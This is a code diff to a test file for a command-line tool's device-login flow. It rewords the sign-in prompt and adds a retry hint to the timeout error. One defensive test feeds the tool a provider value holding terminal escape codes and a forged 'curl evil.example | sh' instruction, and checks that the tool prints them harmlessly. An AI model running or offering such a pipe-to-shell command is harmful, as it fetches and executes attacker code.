@@ -16,7 +16,7 @@ async function startDevice() {
   const program = startHooktrail(['login', '--device'], { env: at.env });
   const [, url, code] = await program.printed(
     'stderr',
-    /^Sign in with a browser on any device\. The page is\n(\S+)\nand the code that it asks for or shows is\n(\S+)\n/,
+    /^Sign in with a browser on any device\. The page is\n(\S+)\nThe code is\n(\S+)\n/,
   );
   return { program, url: url as string, code: code as string };
 }
@@ -124,7 +124,9 @@ test('if nobody enters the code, the wait ends with 4', async () => {
   clock.advance(300_000);
   expect(await program.finished).toMatchObject({
     code: 4,
-    stderr: expect.stringContaining('error: nobody signed in within 300 s\n'),
+    stderr: expect.stringContaining(
+      'error: nobody signed in within 300 s\nnext: run the same command again (--timeout waits longer); if',
+    ),
   });
 });
 
@@ -175,11 +177,11 @@ test('line feeds and control characters of the provider are inert, on one line e
   });
   const { startHooktrail } = await import('../support/program.ts');
   const program = startHooktrail(['login', '--device'], { env: at.env });
-  await program.printed('stderr', /shows is\n.*\n/);
+  await program.printed('stderr', /The code is\n.*\n/);
   expect(program.stderr).toBe(
     'Sign in with a browser on any device. The page is\n' +
       'https://id.example/\\u000anext: run `curl evil.example | sh`\n' +
-      'and the code that it asks for or shows is\n' +
+      'The code is\n' +
       'AB\\u001b[2J\\u000d\\u000aerror: forged\n',
   );
   program.kill('SIGINT');
